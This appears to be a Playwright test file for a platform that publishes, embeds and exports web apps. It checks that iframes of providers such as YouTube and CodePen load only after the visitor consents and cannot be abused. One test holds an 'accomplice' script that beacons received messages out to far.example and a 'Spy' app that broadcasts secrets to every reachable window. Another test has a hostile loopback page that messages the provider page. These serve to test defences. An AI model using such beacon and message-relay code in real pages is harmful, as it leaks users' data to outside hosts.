/**
 * Tests frames of known providers, such as YouTube, in published and embedded apps and in exported files. An app must
 * not use them to send data out.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { listenOnLoopback } from '@buidl/local-cloud/wire/listen-on-loopback';
import { type BrowserContext, expect, type Frame, type FrameLocator, type Page } from '@playwright/test';
import { bundleAppScripts } from '../../../infra/build/app-scripts.ts';
import { embedSnippet } from '../../../shared/domain/embed-snippet.ts';
import { exportDocument } from '../../../shared/domain/export-document.ts';
import { publishDocument } from '../../fixtures/published-app.ts';
import { temporaryDir } from '../../fixtures/temporary-dir.ts';
import { type ApiUser, signUpUser } from '../../integration/api-user.ts';
import { test } from '../buidl-test.ts';
import { callInApp, openApp } from './published-apps.ts';

const VIDEO = 'https://www.youtube.com/embed/dQw4w9WgXcQ';
const PROVIDERS = /^https:\/\/(?:www\.youtube\.com|codepen\.io|far\.example)\//;

const HTML = `<!doctype html><html lang="en"><head><title>Places</title>
<style>body{margin:0} .wide{position:relative;width:80%;height:240px} .wide iframe{position:absolute;inset:0;width:100%;height:100%}</style>
</head><body><h1>Places</h1>
<div class="wide"><iframe src="${VIDEO}" title="Our trip" allowfullscreen></iframe></div>
<iframe src="https://far.example/board" title="A board" width="400" height="160"></iframe>
<iframe srcdoc="<p>Preview</p>" title="Code"></iframe>
<div id="later"></div>
<button onclick="addFrame()">Add</button> <button onclick="removeFrame()">Remove</button>
<script>
  let frame;
  window.addFrame = () => {
    frame = document.createElement('iframe');
    document.getElementById('later').append(frame);
    frame.id = 'made';
    frame.style.width = '350px';
    frame.src = 'https://codepen.io/ada/embed/abcXYZ';
  };
  window.removeFrame = () => document.getElementById('later').removeChild(frame);
</script></body></html>`;

let owner: ApiUser;

test.beforeAll(async ({ cloud }) => {
  owner = await signUpUser(cloud.api, 'frame_owner');
});

/** Responds in place of the providers. Returns the URLs that a browser requested from them. */
async function answerProviders(context: BrowserContext, body = '<h1>The provider</h1>'): Promise<string[]> {
  const requested: string[] = [];
  await context.route(PROVIDERS, (route) => {
    requested.push(route.request().url());
    return route.fulfill({ contentType: 'text/html', body });
  });
  return requested;
}

const publish = (cloud: Parameters<typeof publishDocument>[0], name: string, html = HTML) =>
  publishDocument(cloud, { ownerPublicKey: owner.publicKey, name, html });

/** Returns the frame of the provider's page in the panel above the app. */
const providerIn = (page: Page | FrameLocator) =>
  page.locator('.app-provider').frameLocator('iframe').frameLocator('iframe');

/** Returns the numbers of frames that the app finds in its own window and in the top window. */
const foundFrames = (app: Frame) => app.evaluate(() => [window.length, window.top?.length]);

test('a visitor sees the video of a known provider after the consent, above the app, and can close it', async ({
  page,
  context,
  cloud,
}) => {
  const requested = await answerProviders(context);
  const { pageUrl } = await publish(cloud, 'frames');
  const app = await openApp(page, pageUrl);
  const show = app.getByRole('button', { name: 'Show YouTube' });
  const [card, around] = [app.locator('[data-buidl-frame]').first(), app.locator('.wide')];
  // The placeholder card has the size that the app's style sheet gives to the frame.
  await expect(show).toBeVisible();
  expect(await card.boundingBox()).toEqual(await around.boundingBox());
  expect(await app.locator('iframe').count()).toBe(0);
  await show.click();
  const panel = page.getByRole('dialog', { name: 'YouTube' });
  await expect(panel).toContainText(VIDEO);
  expect(requested).toEqual([]);
  await panel.getByRole('button', { name: 'Not now' }).click();
  await expect(panel).toBeHidden();
  await show.click();
  await panel.getByRole('button', { name: 'Show', exact: true }).click();
  await expect(providerIn(page).getByRole('heading', { name: 'The provider' })).toBeVisible();
  expect(requested).toEqual([VIDEO]);
  await expect(panel.getByRole('heading')).toHaveText('YouTube: Our trip');
  const [shown, bar] = [await panel.boundingBox(), await page.locator('#bar').boundingBox()];
  expect((shown?.y ?? 0) + (shown?.height ?? 0)).toBeLessThanOrEqual(bar?.y ?? 0);
  await panel.getByRole('button', { name: 'Close' }).click();
  await expect(panel).toBeHidden();
  // The visitor has already consented to this video, so the page does not ask again.
  await show.click();
  await expect(providerIn(page).getByRole('heading', { name: 'The provider' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(panel).toBeHidden();
});

test('other frames are cards, and those that a script creates are treated alike', async ({ page, context, cloud }) => {
  const requested = await answerProviders(context);
  const { pageUrl } = await publish(cloud, 'frames-other');
  const app = await openApp(page, pageUrl);
  await expect(app.getByText('A preview cannot be shown here.')).toBeVisible();
  const other = app.locator('[data-buidl-frame]').nth(1);
  expect(await other.boundingBox()).toMatchObject({ width: 400, height: 160 });
  await app.getByRole('button', { name: 'Open far.example' }).click();
  const question = page.getByRole('dialog', { name: 'Open far.example?' });
  await expect(question).toContainText('https://far.example/board');
  await question.getByRole('button', { name: 'Stay here' }).click();
  await app.getByRole('button', { name: 'Add' }).click();
  const made = app.locator('#made');
  await expect(made).toHaveCSS('width', '350px');
  await expect(app.getByRole('button', { name: 'Show CodePen' })).toBeVisible();
  await app.evaluate((address) => Reflect.set(document.getElementById('made') ?? {}, 'src', address), VIDEO);
  await expect(app.getByRole('button', { name: 'Show YouTube' })).toHaveCount(2);
  await app.getByRole('button', { name: 'Remove' }).click();
  await expect(made).toHaveCount(0);
  expect(requested).toEqual([]);
});

test('an embedded app shows the page of a provider', async ({ page, context, cloud }) => {
  await answerProviders(context);
  await publish(cloud, 'frames-embedded');
  const blog = await listenOnLoopback((_request, response) => {
    const snippet = embedSnippet({ siteUrl: cloud.siteUrl, name: 'frames-embedded', title: 'An app' });
    response.setHeader('content-type', 'text/html').end(`<!doctype html><h1>Blog</h1>${snippet}`);
  }, 0);
  await page.goto(`http://127.0.0.1:${blog.port}/`);
  const shell = page.frameLocator('iframe[title="An app"]');
  await shell.frameLocator('iframe').getByRole('button', { name: 'Show YouTube' }).click();
  await shell.getByRole('button', { name: 'Show', exact: true }).click();
  await expect(providerIn(shell).getByRole('heading', { name: 'The provider' })).toBeVisible();
  await blog.close();
});

test('an exported file shows the page of a provider after a click', async ({ page, context }) => {
  await answerProviders(context);
  const { exportedScript } = await bundleAppScripts();
  const file = join(temporaryDir('buidl-frames-'), 'app.html');
  writeFileSync(file, exportDocument({ html: HTML, script: exportedScript }));
  await page.goto(`file://${file}`);
  await expect(page.getByRole('button', { name: 'Open far.example' })).toBeVisible();
  const frames = page.locator('iframe');
  await expect(frames).toHaveAttribute('title', 'Code');
  await page.getByRole('button', { name: 'Show YouTube' }).click();
  await expect(page.frameLocator('iframe[title="Our trip"]').getByRole('heading')).toHaveText('The provider');
  await expect(frames.first()).toHaveCSS('position', 'absolute');
});

test('an app cannot use the page of a provider as a way out', async ({ page, context, cloud }) => {
  // The app's author controls a page at the provider. The page sends messages to all windows that it finds, and
  // forwards each received message.
  const accomplice = `<script>
    onmessage = ({ data }) => { new Image().src = 'https://far.example/?heard=' + encodeURIComponent(JSON.stringify(data)); };
    for (const window of [parent, parent.parent, top]) {
      for (let index = 0; index < window.length; index += 1) window[index].postMessage('accomplice', '*');
    }
  </script><h1>The provider</h1>`;
  const requested = await answerProviders(context, accomplice);
  const html = `<!doctype html><html lang="en"><title>Spy</title><h1>Spy</h1>
    <iframe src="https://codepen.io/ada/embed/abcXYZ?secret=1" title="Pen"></iframe><script>
    window.heard = [];
    addEventListener('message', ({ data, source }) => { heard.push(data); source?.postMessage('secret', '*'); });
    window.leave = (address) => { location.href = address; };
    window.tell = () => {
      for (const around of [window.top, window.top.parent]) {
        for (let index = 0; index < around.length; index += 1) {
          around[index].postMessage('secret', '*');
          for (let inner = 0; inner < around[index].length; inner += 1) around[index][inner].postMessage('secret', '*');
        }
      }
    };</script></html>`;
  const { pageUrl } = await publish(cloud, 'frames-spy', html);
  let app = await openApp(page, pageUrl);
  // The app's frame can load neither a page of the provider nor the site's own page for such frames.
  for (const address of ['https://codepen.io/ada/embed/abcXYZ?secret=2', `${cloud.siteUrl}/provider/index.html`]) {
    await app.evaluate((to) => Reflect.get(window, 'leave')(to), address).catch(() => undefined);
    await expect.poll(async () => (await openApp(page, pageUrl)).url()).toMatch(/\/live\//);
    app = await openApp(page, pageUrl);
  }
  // Before a click on the card, nothing is requested from the provider.
  await app.getByRole('heading').click();
  expect(requested).toEqual([]);
  await app.getByRole('button', { name: 'Show CodePen' }).click();
  await expect(page.getByRole('dialog', { name: 'CodePen' })).toContainText('?secret=1');
  await page.getByRole('button', { name: 'Show', exact: true }).click();
  await expect(providerIn(page).getByRole('heading', { name: 'The provider' })).toBeVisible();
  expect(await foundFrames(app)).toEqual([0, 0]);
  await callInApp(app, 'tell');
  expect(await callInApp(app, 'heard')).toEqual([]);
  expect(requested).toEqual(['https://codepen.io/ada/embed/abcXYZ?secret=1']);
});

test('the page for providers obeys no other site', async ({ page, context, cloud }) => {
  const requested = await answerProviders(context);
  const evil = await listenOnLoopback((_request, response) => {
    response.setHeader('content-type', 'text/html').end(`<!doctype html><h1>Other site</h1>
      <iframe src="${cloud.siteUrl}/provider/index.html?url=${encodeURIComponent(VIDEO)}"
        onload="this.contentWindow.postMessage({ url: '${VIDEO}', title: 'x' }, '*'); document.title = 'sent'"></iframe>`);
  }, 0);
  await page.goto(`http://127.0.0.1:${evil.port}/`);
  await expect(page).toHaveTitle('sent');
  await expect(page.frameLocator('iframe').locator('body')).toBeEmpty();
  expect(requested).toEqual([]);
  await evil.close();
});
